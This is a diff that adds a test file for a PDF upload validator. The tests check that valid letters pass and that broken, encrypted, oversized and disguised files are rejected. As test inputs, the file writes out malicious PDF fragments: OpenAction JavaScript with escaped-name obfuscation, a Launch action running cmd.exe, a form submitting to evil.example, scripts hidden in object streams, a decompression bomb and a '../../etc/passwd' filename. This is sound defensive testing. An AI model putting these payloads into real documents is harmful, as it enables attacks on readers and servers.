@@ -1,0 +1,62 @@
+import { deflateSync } from 'node:zlib'
+import { describe, expect, test } from 'vitest'
+import { limits } from '@/lib/limits'
+import { checkLetter, letterName } from '@/lib/requests/letter/rules'
+import { plainLetter as testLetter } from '@/lib/demo/letter/rules'
+
+const packed = (inner: string, head: string): string => {
+  const data = deflateSync(Buffer.from(inner, 'latin1')).toString('latin1')
+  return `<< ${head} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`
+}
+
+test('a letter as a State sends it is taken, with its pages', () => {
+  expect(checkLetter(testLetter())).toEqual({ problem: null, pages: 1 })
+  expect(checkLetter(testLetter({ objects: [packed('BT (page) Tj ET', ''), packed('6 0 << /Type /Page /Parent 2 0 R >>', '/Type /ObjStm /N 1 /First 4')] }))).toEqual({ problem: null, pages: 2 })
+  // A word is no name, and a link is no program.
+  expect(checkLetter(testLetter({ words: 'No JavaScript, no Launch', objects: ['<< /S /URI /URI (https://labour.example) >>'] }))).toEqual({ problem: null, pages: 1 })
+})
+
+describe('what is no letter', () => {
+  const letter = testLetter().toString('latin1')
+  test.each<[string, string | Buffer, string]>([
+    ['nothing', '', 'letterMissing'],
+    ['a picture by another name', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), 'letterNoPdf'],
+    ['a page', '<html><script>1</script></html>', 'letterNoPdf'],
+    ['a program before the letter', `MZ${letter}`, 'letterNoPdf'],
+    ['a version that is none', letter.replace('%PDF-1.7', '%PDF-9.9'), 'letterNoPdf'],
+    ['one cut off', letter.slice(0, -20), 'letterBroken'],
+    ['one with an archive behind it', `${letter}PK\u0003\u0004`, 'letterBroken'],
+    ['a cross-reference that leads nowhere', letter.replace(/startxref\n\d+/, 'startxref\n999999'), 'letterBroken'],
+    ['a cross-reference that leads elsewhere', letter.replace(/startxref\n\d+/, 'startxref\n12'), 'letterBroken'],
+    ['no catalogue', letter.replace('/Root 1 0 R', ''), 'letterBroken'],
+    ['no page', letter.replaceAll('/Type /Page /Parent', '/Type /Other /Parent'), 'letterBroken'],
+    ['a stream without end', letter.replace('endstream', 'endstraem'), 'letterUnreadable'],
+    ['a locked one', testLetter({ trailer: '/Encrypt 9 0 R' }), 'letterEncrypted'],
+    ['one byte too large', Buffer.alloc(limits.letterBytesMax + 1, 0x20), 'letterTooLarge'],
+  ])('%s', (_what, bytes, problem) => expect(checkLetter(Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes, 'latin1'))).toEqual({ problem }))
+})
+
+describe('what a letter has no use for', () => {
+  test.each<[string, Buffer]>([
+    ['a script that runs on opening', testLetter({ catalogue: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' })],
+    ['the same, spelled with escapes', testLetter({ catalogue: '/OpenAction << /S /J#61va#53cript /JS (1) >>' })],
+    ['a program to start', testLetter({ objects: ['<< /S /Launch /F (cmd.exe) >>'] })],
+    ['a file inside', testLetter({ catalogue: '/Names << /EmbeddedFiles 6 0 R >>' })],
+    ['a form that sends', testLetter({ objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] })],
+    ['a script in a bundle of objects', testLetter({ objects: [packed('7 0 << /S /JavaScript /JS (1) >>', '/Type /ObjStm /N 1 /First 4')] })],
+    ['a script in a bundle that does not say it is one', testLetter({ objects: [packed('7 0 << /S /JavaScript /JS (1) >>', '/N 1 /First 4')] })],
+    ['a script behind a stream that a comment opens', testLetter({ objects: ['<< >>\n% stream\n<< /S /JavaScript >>\nendstream'] })],
+  ])('%s', (_what, bytes) => expect(checkLetter(bytes)).toEqual({ problem: 'letterActive' }))
+
+  test('a bundle of objects packed in a way that is not opened here', () => {
+    expect(checkLetter(testLetter({ objects: ['<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n00\nendstream'] }))).toEqual({ problem: 'letterUnreadable' })
+    expect(checkLetter(testLetter({ objects: ['<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\nrubbish\nendstream'] }))).toEqual({ problem: 'letterUnreadable' })
+  })
+  test('a bomb is not opened to its end', () => {
+    const bomb = packed(' '.repeat(limits.letterUnpackedBytesMax + 1), '/Type /ObjStm /N 1 /First 4')
+    expect(checkLetter(testLetter({ objects: [bomb] }))).toEqual({ problem: 'letterUnreadable' })
+  })
+})
+
+test.each([['Order 1482.PDF', 'Order 1482.pdf'], ['C:\\Users\\x\\पत्र.pdf', 'पत्र.pdf'], ['../../etc/passwd', 'passwd.pdf'], ['a"b\r\nc;d.pdf', 'abcd.pdf'], ['', 'letter.pdf'], ['.pdf', 'letter.pdf'], ['x'.repeat(300), `${'x'.repeat(100)}.pdf`]])(
+  'the name %j is kept as %j', (typed, kept) => expect(letterName(typed)).toBe(kept))
